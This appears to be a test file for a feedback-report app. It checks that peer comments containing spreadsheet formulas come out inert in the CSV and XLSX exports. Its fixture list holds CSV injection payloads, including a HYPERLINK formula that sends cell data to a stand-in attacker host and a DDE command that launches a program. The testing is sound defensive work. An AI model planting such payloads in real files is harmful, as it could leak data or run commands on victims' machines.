/** A rater, or whoever names things, who writes formulas: a file opened in a spreadsheet must not run them. */

import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { definitionOfId } from "../../api/definitions/read-definitions.ts";
import { waveSeal } from "../../api/keys/store.ts";
import { addRole } from "../../api/roster/store.ts";
import { closeOpenWave, releaseReports } from "../../api/waves/close-and-release.ts";
import { findWave } from "../../api/waves/find-wave.ts";
import { openWave } from "../../api/waves/open-wave.ts";
import { issueAll } from "../support/issue-all.ts";
import { insertResponses } from "../support/native-seal.ts";
import { readZip } from "../support/read-zip.ts";
import { draftWave } from "../support/staff-world.ts";
import { openWholeApp, type WholeApp } from "../support/whole-app.ts";

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"more")',
  "+SUM(A1:A9)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1)",
  "\t=1+1",
  "\uff1d1+1 =2",
];

let whole: WholeApp;
let wave: string;
let subject: string;
let cookie: string;

/** A released 360 whose peers wrote formulas into every free text. */
beforeAll(async () => {
  whole = await openWholeApp();
  const { context, coordinator } = whole.world;
  wave = await draftWave(whole.world, "=1+1 round");
  await openWave(context, coordinator, { wave });
  const seal = await context.answers.read((db) => waveSeal(db, wave));
  const { definitionId } = await context.people.read((db) => findWave(db, wave));
  const definition = await definitionOfId(context, definitionId);
  if (seal === undefined) throw new RangeError("an open wave has a seal");
  const texts = definition.items.filter(({ kind }) => kind === "text").map(({ question }) => question);
  const peers = seal.manifest.groups.find(({ group, invited }) => group === "peer" && invited === 5);
  subject = peers?.subject ?? "";
  const responses = FORMULAS.slice(0, 5).map((formula) => ({
    subject,
    group: "peer",
    answers: Object.fromEntries(texts.map((question) => [question, formula])),
  }));
  await issueAll(context, wave);
  await insertResponses(context, seal.manifest, responses);
  await closeOpenWave(context, coordinator, { wave });
  await releaseReports(context, coordinator, { wave });
  for (const ref of ["C1", "C2"]) {
    const { personId } = await whole.world.staff(ref);
    await context.people.write((tx) => addRole(tx, personId, "coach"));
  }
  cookie = await whole.cookieOf("C2");
}, 60_000);
afterAll(() => whole.world.cleanUp());

async function fileOf(format: string): Promise<Uint8Array> {
  const response = await whole.request(`/api/waves/${wave}/reports/${subject}/files/${format}`, { cookie });
  expect(response.status).toBe(200);
  return new Uint8Array(await response.arrayBuffer());
}

/** Cells that Excel, LibreOffice or Google Sheets would run. */
function running(csv: string): string[] {
  const { data } = Papa.parse<string[]>(csv);
  return data.flat().filter((cell) => /^[\s\u00a0\ufeff]*[=+\-@]/.test(cell) && Number.isNaN(Number(cell)));
}

describe("formulas in comments and titles", () => {
  test("are in the released report as they were written", async () => {
    const response = await whole.request(`/api/waves/${wave}/reports/${subject}`, { cookie });
    const text = await response.text();
    for (const formula of FORMULAS.slice(0, 4)) expect(text).toContain(JSON.stringify(formula).slice(1, -1));
  });

  test("would run from a CSV made without care, and not from ours", async () => {
    const careless = Papa.unparse([["comment"], ...FORMULAS.map((formula) => [formula])]);
    expect(running(careless).length).toBeGreaterThan(3);
    const csv = new TextDecoder().decode(await fileOf("csv"));
    expect(csv).toContain("'=1+1 round");
    expect(running(csv)).toEqual([]);
  });

  test("are texts in the workbook, which holds no formula, link or macro", async () => {
    const parts = [...readZip(await fileOf("xlsx")).values()];
    expect(parts.length).toBeGreaterThan(3);
    const all = parts.map((bytes) => new TextDecoder().decode(bytes)).join("\n");
    expect(all).toContain("HYPERLINK");
    expect(all).not.toMatch(/<f[ >]|<hyperlink|vbaProject|externalLink|TargetMode="External/);
  });
});
